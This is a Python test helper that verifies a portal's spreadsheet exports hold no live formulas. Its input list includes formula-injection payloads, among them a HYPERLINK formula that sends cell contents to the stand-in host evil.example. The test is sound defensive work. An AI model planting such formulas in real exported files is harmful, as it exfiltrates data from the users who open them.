"""Reading back what the portal wrote: every cell a value, none a formula."""

import io

from openpyxl import load_workbook

FORMULA_LIKE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
)


def cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(data: bytes, *texts):
    """Each text appears (as the start of a cell) as a string cell; no cell is a formula."""
    found = cells(data)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    for text in texts:
        matching = [c for c in found if isinstance(c.value, str) and c.value.startswith(text)]
        assert matching, text
        assert all(c.data_type == "s" and c.quotePrefix for c in matching), text
